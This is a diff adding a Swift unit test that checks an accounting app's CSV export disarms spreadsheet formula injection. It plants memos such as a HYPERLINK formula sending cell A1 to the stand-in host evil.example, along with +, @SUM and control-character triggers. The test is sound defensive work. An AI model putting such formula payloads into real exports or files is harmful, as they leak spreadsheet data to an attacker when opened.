@@ -105,4 +105,33 @@ import Testing
         #expect(rows.count == (splits ?? 0) + 1)
         #expect(rows[2].fields[9] == "line one\r\n2099-01-01")
     }
+
+    /// Text a spreadsheet would run as a formula gets a leading '; amounts keep their minus.
+    @Test func csvDisarmsFormulas() throws {
+        let file = try Damage.sample(in: folder, transactions: 100)
+        try Damage.apply(to: file) { db in
+            try db.execute(
+                sql: "UPDATE transactions SET memo = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")' WHERE id = 1")
+            try db.execute(sql: "UPDATE splits SET memo = '+1 call' WHERE id = 1")
+            try db.execute(sql: "UPDATE splits SET memo = '@SUM(A1)' WHERE id = 2")
+            try db.execute(sql: "UPDATE splits SET memo = char(9) || 'tab' WHERE id = 3")
+            try db.execute(sql: "UPDATE splits SET memo = char(13) || 'cr' WHERE id = 4")
+            try db.execute(sql: "UPDATE accounts SET number = '-3000' WHERE id = 20")
+        }
+        let path = folder.file("books.csv")
+        try JournalExport.export(file: file, format: .csv, to: path)
+        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
+        let payee = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""
+        #expect(
+            lines[1...4] == [
+                "2023-01-01,1,journal,,\(payee),Checking,1000,45000.00,USD,'+1 call,r",
+                "2023-01-01,1,journal,,\(payee),Savings,1010,120000.00,USD,'@SUM(A1),n",
+                "2023-01-01,1,journal,,\(payee),Furniture and Equipment,1500,18500.00,USD,'\ttab,n",
+                "2023-01-01,1,journal,,\(payee),Opening Balance Equity,'-3000,-183500.00,USD,\"'\rcr\",n",
+            ])
+        #expect(JournalExport.csvText("-12.50") == "'-12.50")
+        #expect(JournalExport.csvText("a=b") == "a=b")
+        #expect(JournalExport.csvText("") == "")
+        #expect(JournalExport.csvText(nil) == "")
+    }
 }
